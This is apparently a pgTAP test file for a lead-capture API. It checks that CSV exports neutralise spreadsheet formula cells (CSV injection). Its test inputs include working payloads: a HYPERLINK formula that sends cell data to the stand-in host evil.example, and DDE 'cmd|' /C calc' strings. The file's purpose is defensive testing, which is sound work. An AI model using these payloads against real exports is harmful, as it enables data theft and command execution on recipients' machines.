-- Leads as CSV (Accept: text/csv): PostgREST's handler api.csv_agg quotes every text cell and
-- neutralises one that could start a spreadsheet formula (OWASP's CSV-injection rule).
begin;
select plan(5);

delete from app.rate_limit_rules;
select set_config('request.headers', '{"x-real-ip": "203.0.113.30"}', true);
select api.submit_lead(tap.lead(
    '{"firstName": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "lastName": "+cmd|'' /C calc''!A0",'
    ' "email": "formula@example.org", "companyName": "@SUM(1+1)*cmd|'' /C calc''!A0", "logoInteractions": 3}'
));
select api.submit_lead(tap.lead(
    '{"firstName": "-2+3", "lastName": "\tTab", "email": "plain@example.org", "inquiryDetails": "@here call me"}'
));

select results_eq(
    $$ select app_logic.csv_cell(v) from unnest(array[
        '"=1+1"', '"+1"', '"-1"', '"@A1"', '"\tx"', '"\rx"', '"a=1"', '"say \"hi\""', '-1', 'true', 'null', '{"a": "=b"}'
    ]::json[]) with ordinality as t (v, n) order by n $$,
    $$ values ('"''=1+1"'), ('"''+1"'), ('"''-1"'), ('"''@A1"'), (E'"''\tx"'), (E'"''\rx"'), ('"a=1"'),
              ('"say ""hi"""'), ('-1'), ('true'), (''), ('"{""a"": ""=b""}"') $$,
    'cells: text starting with = + - @ tab CR gets a leading quote; quotes doubled; numbers, booleans, null bare'
);

set local role reader;
select is(
    (select api.csv_agg(t) from (
        select
            "firstName",
            "lastName",
            "companyName",
            "logoInteractions"
        from api.leads
        where email = 'formula@example.org'
    ) as t)::text,
    E'"firstName","lastName","companyName","logoInteractions"\n'
    || E'"''=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","''+cmd|'' /C calc''!A0","''@SUM(1+1)*cmd|'' /C calc''!A0",3',
    'a lead''s formula cells come out neutralised, in the columns selected'
);
select is(
    (select api.csv_agg(t) from (
        select
            "firstName",
            "lastName",
            "inquiryDetails"
        from api.leads
        where email = 'plain@example.org'
    ) as t)::text,
    E'"firstName","lastName","inquiryDetails"\n"''-2+3","Tab","''@here call me"',
    'a leading minus and a leading @ are neutralised too (a leading tab was trimmed on the way in)'
);
select is(
    (
        select api.csv_agg(
            t) from (
            select id from api.leads
            where false
        ) as t
    )::text, '',
    'no rows: an empty answer'
);
reset role;
select is(
    (select api.csv_agg(s.x) from (select '{"status": "received"}'::jsonb as x) as s)::text,
    E'"status"\n"received"',
    'a function''s JSON answer is one line under its keys'
);

select * from finish();
rollback;
